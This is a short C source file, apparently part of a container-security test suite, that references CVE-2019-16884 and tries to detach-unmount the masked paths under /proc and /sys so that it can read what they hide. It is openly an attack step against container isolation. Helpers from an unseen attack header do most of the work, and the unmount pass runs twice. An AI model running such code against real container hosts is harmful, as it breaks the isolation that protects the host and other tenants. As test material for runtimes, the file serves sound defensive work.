/* Takes the masks off /proc and /sys and reads what is below (isolation of the guest's view; CVE-2019-16884). */
#include "common/attack.h"

static void take_off(const char *path) {
    if (umount2(path, MNT_DETACH) == 0) {
        printf("%s is off\n", path);
    }
}

static void attempt(void) {
    each_mask(take_off);
    each_mask(take_off);
    show_masked("/proc", "/sys");
}
